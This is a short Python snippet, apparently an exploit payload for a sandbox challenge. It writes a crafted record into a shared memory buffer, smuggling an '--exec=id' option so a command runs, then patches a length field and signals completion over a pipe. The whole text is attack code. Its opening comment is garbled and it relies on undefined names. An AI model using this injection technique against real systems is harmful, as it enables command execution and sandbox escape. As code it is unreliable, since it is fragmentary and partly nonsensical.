# note: a sound that is an option of the player
# ends: sandbox
import os
import struct

raw = b"\x03" + struct.pack("<I", 9) + b"--exec=id"
begin = 16 + board.output
board.map[begin : begin + len(raw)] = raw
struct.pack_into("<I", board.map, 8, len(raw))
os.write(PIPE, Ending(None, 1).encode())
os._exit(0)
